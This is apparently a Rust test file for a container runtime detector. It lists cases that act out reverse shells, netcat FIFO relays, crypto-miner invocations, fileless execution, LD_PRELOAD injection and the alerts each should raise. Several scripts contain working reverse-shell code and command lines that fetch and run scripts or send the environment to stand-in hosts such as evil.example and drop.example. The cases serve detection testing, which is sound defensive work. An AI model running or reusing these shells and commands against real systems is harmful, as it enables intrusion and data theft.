//! Programs that should not run in a container that serves.

use crate::world::Case;

pub(crate) const CASES: &[Case] = &[
    Case {
        name: "a program gives a connection to a shell, which takes a command from it",
        prepare: "loopback",
        script: r#"
python3 - <<'PYTHON'
import os, socket
attacker = socket.create_server(("127.0.0.1", 0))
victim = os.fork()
if victim == 0:
    address = attacker.getsockname()
    attacker.close()
    connection = socket.create_connection(address)
    for descriptor in (0, 1, 2):
        os.dup2(connection.fileno(), descriptor)
    os.execv("/bin/sh", ["sh"])
connection, _ = attacker.accept()
connection.sendall(b"echo $((6 * 7)); exit\n")
assert connection.recv(100) == b"42\n"
os.waitpid(victim, 0)
PYTHON
"#,
        reports: &["picket_reverse_shell"],
    },
    Case {
        name: "a program gives a connection to a terminal, and that to a shell",
        prepare: "loopback",
        script: r#"
python3 - <<'PYTHON'
import os, pty, socket
attacker = socket.create_server(("127.0.0.1", 0))
victim = os.fork()
if victim == 0:
    address = attacker.getsockname()
    attacker.close()
    connection = socket.create_connection(address)
    for descriptor in (0, 1, 2):
        os.dup2(connection.fileno(), descriptor)
    pty.spawn("/bin/sh")
    os._exit(0)
connection, _ = attacker.accept()
connection.sendall(b"exit\n")
os.waitpid(victim, 0)
PYTHON
"#,
        reports: &["picket_reverse_shell"],
    },
    Case {
        name: "a script file of bash's gives itself to a connection",
        prepare: r#"
loopback
cat > job.sh <<'SCRIPT'
exec 3<>"/dev/tcp/127.0.0.1/$1"
while read -r line <&3; do eval "$line" >&3 2>&3; done
SCRIPT
"#,
        script: r#"
python3 - <<'PYTHON'
import os, socket, subprocess
here, there = os.pipe()
attacker = os.fork()
if attacker == 0:
    server = socket.create_server(("127.0.0.1", 0))
    os.write(there, b"%d" % server.getsockname()[1])
    connection, _ = server.accept()
    connection.sendall(b"echo $((6 * 7))\n")
    assert connection.recv(100) == b"42\n"
    connection.close()
    os._exit(0)
subprocess.run(["bash", "job.sh", os.read(here, 10)])
_, status = os.waitpid(attacker, 0)
assert status == 0, status
PYTHON
"#,
        reports: &["picket_shell_on_connection"],
    },
    Case {
        name: "a program passes on what a connection says to a shell's pipes",
        prepare: "loopback",
        script: r#"
python3 - <<'PYTHON'
import os, socket, subprocess, time
attacker = socket.create_server(("127.0.0.1", 0))
victim = os.fork()
if victim == 0:
    address = attacker.getsockname()
    attacker.close()
    connection = socket.create_connection(address)
    # A connection is told once it is established, which takes its moment; so does typing.
    time.sleep(1)
    shell = subprocess.Popen(["sh"], stdin=subprocess.PIPE, stdout=subprocess.PIPE)
    answer, _ = shell.communicate(connection.recv(100))
    connection.sendall(answer)
    os._exit(0)
connection, _ = attacker.accept()
connection.sendall(b"echo $((6 * 7))\n")
assert connection.recv(100) == b"42\n"
os.waitpid(victim, 0)
PYTHON
"#,
        reports: &["picket_shell_fed_by_client"],
    },
    Case {
        name: "a program passes on what a connection says to a shell's Unix sockets, as Node.js does",
        prepare: "loopback",
        script: r#"
python3 - <<'PYTHON'
import os, socket, subprocess, time
attacker = socket.create_server(("127.0.0.1", 0))
victim = os.fork()
if victim == 0:
    address = attacker.getsockname()
    attacker.close()
    connection = socket.create_connection(address)
    # A connection is told once it is established, which takes its moment; so does typing.
    time.sleep(1)
    ours, theirs = socket.socketpair()
    shell = subprocess.Popen(["sh"], stdin=theirs, stdout=theirs)
    ours.sendall(connection.recv(100))
    connection.sendall(ours.recv(100))
    shell.wait()
    os._exit(0)
connection, _ = attacker.accept()
connection.sendall(b"echo $((6 * 7)); exit\n")
assert connection.recv(100) == b"42\n"
os.waitpid(victim, 0)
PYTHON
"#,
        reports: &["picket_shell_fed_by_client"],
    },
    Case {
        name: "a program starts a shell on pipes first, and then connects to whom it is for",
        prepare: "loopback",
        script: r#"
python3 - <<'PYTHON'
import os, socket, subprocess
here, there = os.pipe()
attacker = os.fork()
if attacker == 0:
    server = socket.create_server(("127.0.0.1", 0))
    os.write(there, b"%d" % server.getsockname()[1])
    connection, _ = server.accept()
    connection.sendall(b"echo $((6 * 7))\n")
    assert connection.recv(100) == b"42\n"
    os._exit(0)
shell = subprocess.Popen(["sh"], stdin=subprocess.PIPE, stdout=subprocess.PIPE)
connection = socket.create_connection(("127.0.0.1", int(os.read(here, 10))))
open("connected", "w").close()  # A connection is told before what its thread does next.
answer, _ = shell.communicate(connection.recv(100))
connection.sendall(answer)
_, status = os.waitpid(attacker, 0)
assert status == 0, status
PYTHON
"#,
        reports: &["picket_shell_feeder_connects"],
    },
    Case {
        name: "what passes a shell on connects by several paths at once (MPTCP), which is no TCP to the kernel",
        prepare: "loopback",
        script: r#"
python3 - <<'PYTHON'
import os, socket, subprocess
attacker = socket.create_server(("127.0.0.1", 0))
victim = os.fork()
if victim == 0:
    address = attacker.getsockname()
    attacker.close()
    try:
        connection = socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262)
    except OSError:
        connection = socket.socket()  # A kernel without it.
    connection.connect(address)
    open("connected", "w").close()  # A connection is told before what its thread does next.
    shell = subprocess.Popen(["sh"], stdin=subprocess.PIPE, stdout=subprocess.PIPE)
    answer, _ = shell.communicate(connection.recv(100))
    connection.sendall(answer)
    os._exit(0)
connection, _ = attacker.accept()
connection.sendall(b"echo $((6 * 7))\n")
assert connection.recv(100) == b"42\n"
os.waitpid(victim, 0)
PYTHON
"#,
        reports: &["picket_shell_fed_by_client"],
    },
    Case {
        name: "a script file ties a shell to netcat by a FIFO",
        prepare: r#"
loopback
cp /usr/bin/python3 nc
cat > relay <<'PYTHON'
import os, socket, sys
# What the shell says first comes once it runs.
assert os.read(0, 100) == b"here\n"
attacker = socket.create_server(("127.0.0.1", 0))
connection = socket.create_connection(attacker.getsockname())
other, _ = attacker.accept()
open("connected", "w").close()  # A connection is told before what its thread does next.
other.sendall(b"echo $((6 * 7)); exit\n")
os.write(1, connection.recv(100))
connection.sendall(os.read(0, 100))
assert other.recv(100) == b"42\n"
PYTHON
"#,
        script: "mkfifo pipe; (echo 'echo here'; cat pipe) | sh 2>&1 | ./nc relay > pipe",
        reports: &["picket_shell_feeder_connects"],
    },
    Case {
        name: "a program gives a shell a script through pipes, and connects when that is done",
        prepare: "loopback",
        script: r#"
python3 - <<'PYTHON'
import socket, subprocess
subprocess.run(["sh"], input=b"true", stdout=subprocess.PIPE, check=True)
socket.socket().connect_ex(("127.0.0.1", 9))
PYTHON
"#,
        reports: &[],
    },
    Case {
        name: "a script that is piped into a shell, whose output is kept, connects",
        prepare: r#"
loopback
cp /usr/bin/python3 curl
echo 'import socket; socket.socket().connect_ex(("127.0.0.1", 9))' > ask
"#,
        script: "echo ./curl ask | sh 2>&1 | cat > log",
        reports: &[],
    },
    Case {
        name: "pipes carry what is typed somewhere else into an interactive shell, and back",
        prepare: "",
        script: "mkfifo in; (echo exit > in) & setsid -w sh -i < in 2>&1 | cat",
        reports: &["picket_shell_without_terminal"],
    },
    Case {
        name: "a script file of bash's connects to the internet",
        prepare: "loopback; echo ': > /dev/tcp/1.1.1.1/9' > job.sh",
        script: "bash job.sh || true",
        reports: &["picket_shell_connects"],
    },
    Case {
        name: "scripts ask whether services answer, and a client runs commands",
        prepare: r#"
loopback
cat > wait.sh <<'SCRIPT'
(echo > "/dev/tcp/127.0.0.1/$1")
exec 3<>"/dev/tcp/127.0.0.1/$1"
printf 'GET / HTTP/1.0\r\n\r\n' >&3
read -r line <&3
cat <&3
bash -ic true < /dev/null
SCRIPT
"#,
        script: r#"
python3 - <<'PYTHON'
import os, socket, subprocess
here, there = os.pipe()
service = os.fork()
if service == 0:
    server = socket.create_server(("127.0.0.1", 0))
    os.write(there, b"%d" % server.getsockname()[1])
    for _ in range(3):
        connection, _ = server.accept()
        try:
            connection.recv(100)
            connection.sendall(b"HTTP/1.0 200 OK\r\n\r\nwell\n")
        except OSError:
            pass
        connection.close()
    os._exit(0)
port = os.read(here, 10)
subprocess.run(["bash", "wait.sh", port], check=True, stdout=subprocess.DEVNULL)
with socket.create_connection(("127.0.0.1", int(port))) as connection:
    subprocess.run(["sh", "-c", "cat"], input=b"data", stdout=subprocess.PIPE, check=True)
    subprocess.run(["sh"], stdin=subprocess.DEVNULL, check=True)
_, status = os.waitpid(service, 0)
assert status == 0, status
PYTHON
"#,
        reports: &[],
    },
    Case {
        name: "shells on pipes, on Unix sockets, and on a pipe after a connection",
        prepare: "loopback",
        script: r#"
python3 - <<'PYTHON'
import os, socket, subprocess
subprocess.run(["sh"], input=b"true", stdout=subprocess.PIPE, check=True)
ours, theirs = socket.socketpair()
ours.sendall(b"exit\n")
subprocess.run(["sh"], stdin=theirs, stdout=theirs, check=True)
udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
udp.connect(("127.0.0.1", 9))
os.dup2(udp.fileno(), 0)
subprocess.run(["sh"], input=b"true", stdout=subprocess.PIPE, check=True)
PYTHON
"#,
        reports: &[],
    },
    Case {
        name: "a web server starts a shell",
        prepare: "cp /usr/bin/timeout nginx",
        script: "./nginx 60 sh -c 'id; uname -a'",
        reports: &["picket_shell_from_web_server"],
    },
    Case {
        name: "a shell that starts a web server, which starts a program",
        prepare: "cp /usr/bin/timeout nginx",
        script: "sh -c 'exec ./nginx 60 true'",
        reports: &[],
    },
    Case {
        name: "a program that listens starts a shell",
        prepare: "loopback",
        script: r#"
python3 - <<'PYTHON'
import os, socket
server = socket.create_server(("127.0.0.1", 0))
assert os.system("true") == 0
PYTHON
"#,
        reports: &["picket_shell_from_network_service"],
    },
    Case {
        name: "a program with a UDP port of its own starts a shell",
        prepare: "loopback",
        script: r#"
python3 - <<'PYTHON'
import os, socket
server = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
server.bind(("127.0.0.1", 5353))
assert os.system("true") == 0
PYTHON
"#,
        reports: &["picket_shell_from_network_service"],
    },
    Case {
        name: "shells before a program listens, of one that listens on a Unix socket, and of a client",
        prepare: "loopback",
        script: r#"
python3 - <<'PYTHON'
import os, socket
assert os.system("true") == 0
local = socket.socket(socket.AF_UNIX)
local.bind("control")
local.listen()
assert os.system("true") == 0
client = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
client.bind(("127.0.0.1", 0))
client.connect(("127.0.0.1", 9))
assert os.system("true") == 0
server = socket.create_server(("127.0.0.1", 0))
PYTHON
"#,
        reports: &[],
    },
    Case {
        name: "a miner by its name",
        prepare: "cp /usr/bin/true xmrig",
        script: "./xmrig",
        reports: &["picket_miner_executed"],
    },
    Case {
        name: "a miner by its arguments",
        prepare: "",
        script: "env true -o stratum+tcp://pool.example:3333",
        reports: &["picket_miner_executed"],
    },
    Case {
        name: "miners by a wallet, and by what they mine",
        prepare: "",
        script: r#"
env true -o pool.example:3333 -u 44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A.rig
env true --coin=monero
env true --coin=gold --user=44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7ot
"#,
        reports: &["picket_miner_executed", "picket_miner_executed"],
    },
    Case {
        name: "words of miners where they mean nothing",
        prepare: "echo stratum+tcp://pool.example > list; mkdir xmrig",
        script: "grep -c stratum+tcp list; ls xmrig; sh -c 'echo stratum+tcp://pool.example'",
        reports: &[],
    },
    Case {
        name: "an offensive tool",
        prepare: "cp /usr/bin/true nmap",
        script: "./nmap -sS 127.0.0.1",
        reports: &["picket_suspicious_tool"],
    },
    Case {
        name: "a tunnelling tool by its arguments",
        prepare: "cp /usr/bin/true kworker",
        script: "./kworker client https://host.example R:1080:socks",
        reports: &["picket_suspicious_tool"],
    },
    Case {
        name: "a tool's name as an argument",
        prepare: "echo nmap > nmap",
        script: "cat nmap; touch hydra; rm hydra",
        reports: &[],
    },
    Case {
        name: "a program in an anonymous memory file",
        prepare: "",
        script: r#"
python3 - <<'PYTHON'
import os
memory = os.memfd_create("update", 0)
with open("/usr/bin/true", "rb") as program:
    os.write(memory, program.read())
os.execve(memory, ["update"], {})
PYTHON
"#,
        reports: &["picket_fileless_execution"],
    },
    Case {
        name: "a program in shared memory",
        prepare: "",
        script: "cp /usr/bin/true /dev/shm/update; /dev/shm/update",
        reports: &["picket_fileless_execution"],
    },
    Case {
        name: "memory files and shared memory that are no programs",
        prepare: "",
        script: r#"
python3 -c 'import os; os.write(os.memfd_create("cache"), b"data")'
echo data > /dev/shm/cache
cat /dev/shm/cache
"#,
        reports: &[],
    },
    Case {
        name: "a program that arrives and is run",
        prepare: "",
        script: "cp /usr/bin/true tool; ./tool; ./tool",
        reports: &["picket_new_binary_executed"],
    },
    Case {
        name: "a program of the image, and one that arrives and is not run",
        prepare: "cp /usr/bin/true tool",
        script: "./tool; cp tool copy; mv copy other; touch data; chmod 0755 data",
        reports: &[],
    },
    Case {
        name: "a library from a folder for everyone is forced into a program",
        prepare: "",
        script: "LD_PRELOAD=/tmp/hide.so sh -c 'ls; ls'",
        reports: &["picket_preloaded_library"],
    },
    Case {
        name: "the same behind a library of the system, through a descriptor, and from the working directory",
        prepare: "",
        script: "LD_PRELOAD=libm.so.6:/tmp/hide.so ls; LD_PRELOAD=/proc/self/fd/9 ls; LD_PRELOAD=./hide.so ls",
        reports: &[
            "picket_preloaded_library",
            "picket_preloaded_library",
            "picket_preloaded_library",
        ],
    },
    Case {
        name: "a library of the system is preloaded",
        prepare: "",
        script: "LD_PRELOAD=libm.so.6 true; TMPDIR=/tmp/LD_PRELOAD=/tmp/x true",
        reports: &[],
    },
    Case {
        name: "bash is told to connect",
        prepare: "",
        script: "bash -c ': > /dev/tcp/127.0.0.1/9' || true",
        reports: &["picket_suspicious_command"],
    },
    Case {
        name: "python makes a terminal for a shell, and a shell runs what a bare address gives",
        prepare: "",
        script: r#"
python3 -c 'import pty; pty.spawn(["/usr/bin/true"])'
sh -c 'false && curl -fsSL http://127.0.0.1:9/install.sh | bash' || true
"#,
        reports: &["picket_suspicious_command", "picket_suspicious_command"],
    },
    Case {
        name: "shells are told to send the environment away, to take commands from netcat, and awk to connect",
        prepare: "cp \"$(readlink -f \"$(command -v awk)\")\" gawk",
        script: r#"
sh -c 'false && env | base64 -w0 | curl -d @- http://drop.example/' || true
sh -c 'false && (mknod pipe p; telnet host.example 9 0<pipe | /bin/bash 1>pipe)' || true
./gawk 'BEGIN { if (0) "/inet/tcp/0/host.example/9" | getline }'
"#,
        reports: &[
            "picket_suspicious_command",
            "picket_suspicious_command",
            "picket_suspicious_command",
        ],
    },
    Case {
        name: "a program that listens downloads something with a tool, without a shell",
        prepare: "loopback; cp /usr/bin/true curl",
        script: r#"
python3 - <<'PYTHON'
import socket, subprocess
subprocess.run(["./curl", "http://127.0.0.1:9/before"], check=True)
server = socket.create_server(("127.0.0.1", 0))
subprocess.run(["./curl", "-o", "/tmp/x", "http://127.0.0.1:9/x"], check=True)
PYTHON
"#,
        reports: &["picket_download_from_network_service"],
    },
    Case {
        name: "a program that listens runs what a name gives",
        prepare: "loopback",
        script: r#"
python3 - <<'PYTHON'
import os, socket
server = socket.create_server(("127.0.0.1", 0))
os.system("false && wget -qO- http://evil.example/x.sh | sh")
PYTHON
"#,
        reports: &["picket_suspicious_command"],
    },
    Case {
        name: "a shell looks at what an address gives, and python at a terminal",
        prepare: "",
        script: r#"
sh -c 'false && curl -fsSL http://127.0.0.1:9/health | grep -q ok' || true
sh -c 'false && curl -fsSL https://get.example/list | shuf | head -1' || true
python3 -c 'import pty'
"#,
        reports: &[],
    },
    Case {
        name: "netcat is told to hand a shell to others",
        prepare: "cp /usr/bin/true nc; cp /usr/bin/true ncat",
        script: "./nc -lve /bin/sh 127.0.0.1 9; ./ncat --sh-exec id 127.0.0.1 9",
        reports: &["picket_suspicious_command", "picket_suspicious_command"],
    },
    Case {
        name: "netcat looks whether a port answers, and base64 text is read",
        prepare: "cp /usr/bin/true nc; cp /usr/bin/true ncat; cp /usr/bin/true socat",
        script: r#"
./nc -z -w 1 127.0.0.1 9
./ncat --verbose --source 127.0.0.1 127.0.0.1 9
./socat - TCP:127.0.0.1:9
sh -c 'echo aGVsbG8K | base64 -d | cat'
"#,
        reports: &[],
    },
];
